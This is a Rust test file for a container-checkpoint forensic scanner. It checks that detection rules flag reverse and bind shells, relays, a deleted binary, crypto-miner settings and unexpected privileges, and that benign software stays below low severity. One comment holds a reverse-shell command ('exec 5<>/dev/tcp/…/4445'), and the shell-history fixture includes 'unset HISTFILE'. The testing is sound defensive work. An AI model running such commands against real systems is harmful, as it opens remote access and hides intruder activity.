//! Rules about processes: what was planted in a compromise, the same with other techniques, and silence over benign software.

use cryoscope::Checkpoint;
use cryoscope::analysis::{Cost, Finding, Scan, Selection, Severity};
use cryoscope::images::proto::{
    CoreEntry, CredsEntry, FdTypes, FdinfoEntry, FileEntry, InetSkEntry, MmEntry, TaskKobjIdsEntry,
};
use cryoscope::model::ids::Pid;
use prost::Message;
use serde_json::{Value, json};

use crate::archives::Members;
use crate::fixtures::{self, rows_of};

/// The shell whose connection is changed in the tests below.
const SHELL: u32 = 12;

fn scan(checkpoint: &Checkpoint, cost: Cost) -> Scan {
    let mut selection = Selection::default();
    selection.only = vec!["PROC".to_owned()];
    selection.cost = cost;
    Scan::run(checkpoint, &selection)
}

fn compromise() -> Members {
    Members::of(&fixtures::archive_of("webapp-compromise"))
}

/// The findings of a rule about a process.
fn of<'s>(scan: &'s Scan, rule: &str, pid: u32) -> Option<&'s Finding> {
    let about = |finding: &&Finding| finding.pid == Some(Pid(pid)) || finding.also_pids.contains(&Pid(pid));
    scan.findings.iter().filter(|finding| finding.rule.id == rule).find(about)
}

fn severity(scan: &Scan, rule: &str, pid: u32) -> Option<Severity> {
    of(scan, rule, pid).map(|finding| finding.severity)
}

#[test]
fn the_evidence_has_what_was_planted_and_the_service_is_not_accused() {
    let checkpoint = Checkpoint::open(fixtures::archive_of("webapp-compromise")).unwrap();
    let scan = scan(&checkpoint, Cost::Memory);
    // The service and its own worker are honest.
    for pid in [1, 6] {
        let about: Vec<_> = scan.findings.iter().filter(|finding| finding.pid == Some(Pid(pid))).collect();
        assert!(about.is_empty(), "{about:?}");
    }
    let settings = of(&scan, "PROC-017", 21).unwrap();
    assert!(settings.evidence.iter().any(|evidence| evidence.bytes.starts_with(b"stratum+tcp://")), "{settings:?}");
    let deleted = of(&scan, "PROC-003", 15).unwrap();
    assert!(
        deleted.evidence.iter().any(|evidence| evidence.bytes.starts_with(b"\x7fELF") && evidence.sha256.is_some())
    );
}

#[test]
fn lines_typed_in_a_shell_are_rows_with_times() {
    let checkpoint = Checkpoint::open(fixtures::archive_of("webapp-compromise")).unwrap();
    let rows = rows_of(&checkpoint, &["shell_history"]).remove("shell_history").unwrap();
    let typed: Vec<&Value> = rows.iter().map(|row| &row["command"]).collect();
    let session = ["unset HISTFILE", "whoami", "ls -la /host/etc | head -3"].map(|line| json!(line));
    assert_eq!(typed[5..], session.iter().collect::<Vec<_>>(), "{typed:?}");
    assert_eq!((&typed[0], &rows[0]["pid"]), (&&json!("id"), &json!(35)));
    assert!(rows[5]["time"].as_str().unwrap().starts_with("2026-11-23T11:12:29"));
}

#[test]
fn benign_software_has_nothing_above_low() {
    for case in ["real-jobs", "real-sshd", "exec-into", "console", "crio-logs", "tree", "threads", "files"] {
        let Ok(folder) = std::fs::read_dir(fixtures::path(case)) else { continue };
        assert!(folder.count() > 0);
        for archive in fixtures::archives_of(case) {
            let Ok(checkpoint) = Checkpoint::open(&archive) else { continue };
            let scan = scan(&checkpoint, Cost::Memory);
            for finding in &scan.findings {
                assert!(finding.severity <= Severity::Low, "{case}: {} {}", finding.rule.id, finding.sentence);
            }
            let looked: u64 = scan.coverage.iter().map(|(_, coverage)| coverage.looked_at).sum();
            assert!(looked > 0, "{case}: no rule looked at anything");
        }
    }
}

/// Changes the connection of [`SHELL`].
fn with_socket(members: &mut Members, change: impl Fn(&mut InetSkEntry)) {
    let number = file_at(members, SHELL, 0);
    members.edit::<FileEntry>("checkpoint/files.img", |_, entry| {
        if let Some(socket) = entry.isk.as_mut().filter(|socket| socket.id == Some(number)) {
            change(socket);
        }
    });
}

/// Name of the image with the descriptors of a process.
fn descriptors(members: &Members, pid: u32) -> String {
    let mut number = 0;
    members.clone().parts(&format!("checkpoint/ids-{pid}.img"), |image| {
        number = TaskKobjIdsEntry::decode(image.records[0].0.as_slice()).unwrap().files_id();
    });
    format!("checkpoint/fdinfo-{number}.img")
}

/// CRIU's number of the file behind a descriptor.
fn file_at(members: &Members, pid: u32, fd: u32) -> u32 {
    let name = descriptors(members, pid);
    let mut found = None;
    members.clone().parts(&name, |image| {
        let entries = image.records.iter().map(|(bytes, _)| FdinfoEntry::decode(bytes.as_slice()).unwrap());
        found = entries.into_iter().find(|entry| entry.fd == Some(fd)).map(|entry| entry.id());
    });
    found.unwrap_or_else(|| panic!("{pid} has no descriptor {fd}"))
}

fn change_creds(members: &mut Members, pid: u32, change: impl Fn(&mut CredsEntry)) {
    members.edit::<CoreEntry>(&format!("checkpoint/core-{pid}.img"), |_, core| {
        change(core.thread_core.as_mut().unwrap().creds.as_mut().unwrap());
    });
}

fn free(members: &Members) -> Scan {
    scan(&members.open(), Cost::Free)
}

#[test]
fn a_shell_is_judged_by_how_far_its_connection_goes() {
    for (address, expected) in
        [([10, 0, 0, 9], Severity::High), ([127, 0, 0, 1], Severity::Medium), ([8, 8, 8, 8], Severity::Critical)]
    {
        let mut members = compromise();
        with_socket(&mut members, |socket| socket.dst_addr = vec![u32::from_le_bytes(address)]);
        assert_eq!(severity(&free(&members), "PROC-005", SHELL), Some(expected), "{address:?}");
    }
}

#[test]
fn a_shell_on_a_port_that_is_served_is_a_bind_shell() {
    let mut members = compromise();
    with_socket(&mut members, |socket| socket.src_port = Some(8080));
    let scan = free(&members);
    assert_eq!(severity(&scan, "PROC-006", SHELL), Some(Severity::High));
    assert_eq!(severity(&scan, "PROC-005", SHELL), None);
}

#[test]
fn a_shell_that_opened_a_connection_itself_is_found() {
    // As after `exec 5<>/dev/tcp/203.0.113.66/4445`.
    let mut members = compromise();
    let name = descriptors(&members, SHELL);
    members.edit::<FdinfoEntry>(&name, |_, entry| entry.fd = entry.fd.filter(|&fd| fd == 0).map(|_| 5).or(entry.fd));
    members.parts(&name, |image| {
        image.records.retain(|(bytes, _)| FdinfoEntry::decode(bytes.as_slice()).unwrap().fd == Some(5));
    });
    let found = free(&members);
    let found = of(&found, "PROC-005", SHELL).unwrap();
    assert!(found.severity >= Severity::High && found.sentence.contains("as descriptor 5"), "{}", found.sentence);
}

#[test]
fn a_shell_behind_a_relay_is_found() {
    // Its input and output are one end of a socket pair, whose other end a process with a connection has.
    let mut members = compromise();
    let other = file_at(&members, 23, 7);
    let name = descriptors(&members, SHELL);
    members.edit::<FdinfoEntry>(&name, |_, entry| {
        entry.id = Some(other);
        entry.r#type = Some(FdTypes::Unixsk.into());
    });
    let found = free(&members);
    let found = of(&found, "PROC-005", SHELL).unwrap();
    assert_eq!(found.severity, Severity::Critical);
    assert!(found.sentence.contains("a unix socket of process 23"), "{}", found.sentence);
}

#[test]
fn rights_that_nobody_gave_are_found() {
    let mut members = compromise();
    change_creds(&mut members, SHELL, |creds| creds.cap_bnd = vec![u32::MAX, 0x1ff]);
    members.edit::<TaskKobjIdsEntry>("checkpoint/ids-15.img", |_, ids| ids.mnt_ns_id = Some(4711));
    change_creds(&mut members, 10, |creds| {
        (creds.uid, creds.euid, creds.suid, creds.fsuid) = (Some(33), Some(33), Some(33), Some(33));
        creds.cap_prm = vec![0, 0];
        creds.cap_eff = vec![0, 0];
    });
    let scan = free(&members);
    assert_eq!(severity(&scan, "PROC-014", SHELL), Some(Severity::High));
    assert_eq!(severity(&scan, "PROC-016", 15), Some(Severity::Medium));
    assert_eq!(severity(&scan, "PROC-013", 11), Some(Severity::Medium));
    assert_eq!(severity(&scan, "PROC-014", 1), None);
}

#[test]
fn a_shell_with_set_id_bits_is_found() {
    let mut members = compromise();
    members.edit::<MmEntry>(&format!("checkpoint/mm-{SHELL}.img"), |_, mm| {
        let secure = mm.mm_saved_auxv.chunks_exact(2).position(|pair| pair[0] == 23).unwrap();
        mm.mm_saved_auxv[2 * secure + 1] = 1;
    });
    change_creds(&mut members, SHELL, |creds| creds.uid = Some(33));
    let scan = scan(&members.open(), Cost::Files);
    assert_eq!(severity(&scan, "PROC-012", SHELL), Some(Severity::High));
    assert_eq!(severity(&scan, "PROC-012", 11), None);
}

#[test]
fn a_terminal_of_a_server_of_logins_is_no_relay() {
    // The same as planted, but the process that drives the terminal has no connection.
    let mut members = compromise();
    let null = file_at(&members, 1, 0);
    for pid in [11, 34] {
        let name = descriptors(&members, pid);
        members.edit::<FdinfoEntry>(&name, |_, entry| {
            if entry.r#type == Some(FdTypes::Inetsk.into()) {
                entry.id = Some(null);
                entry.r#type = Some(FdTypes::Reg.into());
            }
        });
    }
    let scan = free(&members);
    assert_eq!(severity(&scan, "PROC-023", 34), None);
    assert_eq!(severity(&scan, "PROC-005", 11), None);
}

#[test]
fn ids_are_the_same_in_another_checkpoint_of_the_container() {
    // Numbers of connections and ports of the near end differ from one checkpoint to the next.
    let first = free(&compromise());
    let mut members = compromise();
    with_socket(&mut members, |socket| (socket.src_port, socket.ino) = (Some(50_001), Some(999_999)));
    let second = free(&members);
    let ids = |scan: &Scan| {
        let mut ids: Vec<String> = scan.findings.iter().map(Finding::id).collect();
        ids.sort();
        ids
    };
    assert_eq!(ids(&first), ids(&second));
}
